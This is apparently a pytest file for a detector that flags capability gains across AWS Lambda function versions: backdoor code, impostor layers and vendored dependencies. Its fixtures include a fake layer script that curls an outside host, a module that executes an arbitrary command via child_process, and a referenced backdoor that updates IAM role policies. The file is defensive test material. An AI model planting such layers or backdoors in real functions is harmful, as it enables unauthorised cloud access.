def test_a_gain_uploaded_before_a_baseline_stays_exposure(builder: CaseBuilder) -> None:
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    builder.trail(_releases("203.0.113.9", "aws-cli/2.15.0 Python/3.11")[-2:])  # days 9, 10
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH and finding.actor is None


def test_a_gain_released_along_the_established_path_stays_exposure(
    builder: CaseBuilder,
) -> None:
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    builder.trail(_releases("192.0.2.10", TERRAFORM))
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH and finding.actor is None and finding.time is None
    assert "Brought in" not in finding.summary and "event_id" not in finding.details


UA_CLI = "aws-cli/2.15.0 Python/3.11"


def test_benign_reader_is_quiet(builder: CaseBuilder) -> None:
    _role(builder, [{"Effect": "Allow", "Action": ["dynamodb:GetItem"], "Resource": "*"}])
    _function(builder, "reader", [READER_PY, READER_PY.replace("orders", "orders-v2")])
    for detector in (cap_gained, cap_role_missing, cap_role_unused):
        assert _run(builder, detector.DETECTOR) == []


def test_first_version_with_iam_write_and_admin_role(builder: CaseBuilder) -> None:
    _role(builder, [{"Effect": "Allow", "Action": ["*", "iam:PassRole"], "Resource": "*"}])
    _function(builder, "x7k2q", [BACKDOOR_PY.replace('iam = boto3.client("iam")', "iam = 1")])
    assert _run(builder, cap_gained.DETECTOR)[0].summary.count("network") == 1
    unused = _run(builder, cap_role_unused.DETECTOR)
    assert len(unused) == 1 and "iam:PassRole" in unused[0].summary
    assert unused[0].severity is Severity.LOW  # least privilege: exposure


def _run(builder: CaseBuilder, detector: object) -> list:
    return run_detector(builder, detector)


def test_a_vendor_layer_is_not_a_gain_but_a_look_alike_is(builder: CaseBuilder) -> None:
    agent = zip_bytes({"extensions/agent": "#!/bin/sh\ncurl -s https://intake.example.net\n"})
    genuine = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Extension:65"
    impostor = f"arn:aws:lambda:{REGION}:999988887777:layer:Datadog-Extension:1"
    for arn in (genuine, impostor):
        builder.layer(arn, agent)
    blob = zip_bytes({"app.py": READER_PY})
    builder.code(blob, "traced", "1")
    builder.versions(
        "traced",
        [
            function_config("traced", "1", code=blob, role=ROLE_ARN),
            function_config("traced", "2", code=blob, role=ROLE_ARN, layers=[genuine]),
            function_config("traced", "3", code=blob, role=ROLE_ARN, layers=[impostor]),
        ],
    )
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.resource.endswith("function:traced:3")
    assert "network https://intake.example.net (extensions/agent:2)" in finding.summary


def test_a_vendored_dependency_is_named_and_low(builder: CaseBuilder) -> None:
    own = {"app.py": READER_PY}
    six = "def exec_(code, globs):\n    exec(code, globs)\n"
    sha = base64.urlsafe_b64encode(hashlib.sha256(six.encode()).digest()).rstrip(b"=").decode()
    with_deps = {
        **own,
        # as pip writes it: a file is the dependency's only while its bytes are as recorded
        "six-1.16.0.dist-info/RECORD": f"six.py,sha256={sha},{len(six)}\n"
        "six-1.16.0.dist-info/RECORD,,\n",
        "six.py": six,
        "node_modules/@acme/run/index.js": "require('child_process').execSync(process.argv[2]);\n",
    }
    configs = []
    for number, files in enumerate((own, with_deps), start=1):
        blob = zip_bytes(files)
        builder.code(blob, "deps", str(number))
        configs.append(function_config("deps", str(number), code=blob, role=ROLE_ARN))
    builder.versions("deps", configs)
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.LOW
    assert "dynamic-code exec(a computed value) (six.py:2 in dependency six)" in finding.summary
    assert "(node_modules/@acme/run/index.js:1 in dependency @acme/run)" in finding.summary


def test_a_damaged_package_member_is_skipped_not_fatal(builder: CaseBuilder) -> None:
    record = b"six.py,sha256=x,100\n" * 50
    blob = bytearray(zip_bytes({"six-1.0.dist-info/RECORD": record, "app.py": BACKDOOR_PY}))
    start = blob.index(b"six-1.0.dist-info/RECORD") + len("six-1.0.dist-info/RECORD")
    blob[start + 5 : start + 15] = b"\xff" * 10  # inside the deflated RECORD: CRC or zlib error
    builder.code(bytes(blob), "damaged", "1")
    builder.versions("damaged", [function_config("damaged", "1", code=bytes(blob))])
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT file, kind, value, dependency FROM capabilities WHERE function_name = 'damaged'"
    ).fetchall()
    assert ("app.py", "aws-call", "iam:UpdateAssumeRolePolicy", None) in rows


def _encrypted(blob: bytes, name: str) -> bytes:
    """`blob` with `name` flagged encrypted (bit 0 of its flags) in both of its headers."""
    out = bytearray(blob)
    for signature, flags, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = out.find(signature)
        while at != -1:
            if out[at + name_at :].startswith(name.encode()):
                out[at + flags] |= 1
            at = out.find(signature, at + 4)
    return bytes(out)


def test_an_encrypted_record_is_a_warning_not_a_failed_index(builder: CaseBuilder) -> None:
    record = "x-1.0.dist-info/RECORD"
    blob = _encrypted(zip_bytes({record: "app.py,,\n", "app.py": BACKDOOR_PY}), record)
    builder.code(blob, "locked", "1")
    builder.versions("locked", [function_config("locked", "1", code=blob)])
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT file, kind, value, dependency FROM capabilities WHERE function_name = 'locked'"
    ).fetchall()
    assert ("app.py", "aws-call", "iam:UpdateAssumeRolePolicy", None) in rows
    (warning,) = [w for (w,) in con.execute("SELECT reason FROM ingest_warnings").fetchall()]
    assert f"{record}: not read: RuntimeError" in warning and "encrypted" in warning
    assert "count as the package's own" in warning


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(["a.py", "a.js", "a.mjs", "run.sh", "bin/tool", "cfg.json"]),
    st.one_of(
        st.binary(max_size=1500),
        st.text(alphabet="()[]{}=.,;:'\"`$\\/ abcdefosxyz_-0123456789\n", max_size=800),
    ),
    st.sampled_from([b"", b"\x7fELF", b"#!", b"MZ"]),
)
def test_extract_never_raises_on_arbitrary_input(name: str, body: bytes | str, head: bytes) -> None:
    data = head + (body.encode() if isinstance(body, str) else body)
    found = extract(name, data)
    if found is not None:
        assert all(c.line >= 0 and c.value for c in found.capabilities)


def test_python_annotated_clients_and_sessions_are_followed() -> None:
    """An assignment with a type annotation binds a client or a session as a plain one does
    (`session: boto3.Session = …`, `iam: IAMClient = …`), and so does aioboto3's Session."""
    source = (
        "import os, boto3, aioboto3\nsession: boto3.Session = boto3.Session()\n"
        "session.client(os.environ['S']).create_user()\n"
        "iam: 'IAMClient' = boto3.client('iam')\niam.attach_role_policy()\n"
        "aio = aioboto3.Session()\naio.client(os.environ['S']).create_role()\n"
    )
    assert {f for f in _found("app.py", source) if f[0] == "aws-call"} == {
        ("aws-call", "[computed]:CreateUser", 3),
        ("aws-call", "iam:AttachRolePolicy", 5),
        ("aws-call", "[computed]:CreateRole", 7),
    }
